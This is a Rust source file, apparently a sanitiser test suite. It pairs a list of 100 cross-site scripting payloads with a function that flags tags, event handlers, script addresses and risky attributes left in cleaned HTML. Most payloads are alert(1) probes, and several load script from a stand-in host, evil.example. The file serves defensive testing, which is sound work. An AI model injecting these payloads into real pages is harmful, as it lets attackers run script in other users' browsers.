//! Texts that want to act in a reader's browser, and a look at whether HTML could.

/// A hundred of them: the elements, handlers, addresses, encodings and parser tricks by which scripts get into pages.
pub const PAYLOADS: [&str; 100] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\"&#106;&#97;vascript:alert(1)\">",
    "<img src=x:x onerror=\"&#0000106avascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1)\">",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=\"//evil.example/\" ping=\"https://evil.example\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe/onload=alert(1)>",
    "<frameset onload=alert(1)>",
    "<frame src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.html\"></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code=\"https://evil.example/x.swf\" allowscriptaccess=always>",
    "<applet code=x.class></applet>",
    "<base href=\"javascript:alert(1)//\">",
    "<base target=\"<script>alert(1)</script>\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x",
    "<td background=\"javascript:alert(1)\">x",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<xss style=\"animation-name:x\" onanimationstart=alert(1)></xss>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// What a text may have in a page; the title of the page is its own.
const ELEMENTS: &str = "a abbr b blockquote br caption cite code dd dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img li mark ol p pre q s small strong \
    sub sup table tbody td tfoot th thead tr u ul";

/// What of clean HTML could act: tags that no text has, attributes that run code, addresses of another kind. (Clean HTML has its attributes in
/// double quotes and every `<` of a text escaped, so that looking for tags is enough.)
pub fn active_parts(html: &str) -> Vec<String> {
    let mut active = Vec::new();
    for tag in html.split('<').skip(1) {
        let (name, attributes) = tag.split_at(tag.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(tag.len()));
        let attributes = attributes.to_ascii_lowercase();
        let allowed = ELEMENTS.split_whitespace().any(|element| element == name.trim_start_matches('/'));
        let handler = attributes.split_whitespace().any(|part| part.starts_with("on") && part.contains('='));
        let address = ["href=\"", "src=\""].iter().filter_map(|name| attributes.split_once(name)).any(|(_, value)| {
            !["https://", "http://", "mailto:", "tel:", "/", "#", "\""].iter().any(|beginning| value.starts_with(beginning))
                || value.starts_with("//")
        });
        let inside = ["style=", "srcdoc=", "background=", "action=", "cite="].iter().any(|name| attributes.contains(name));
        if !allowed || handler || address || inside {
            active.push(format!("<{tag}"));
        }
    }
    active
}
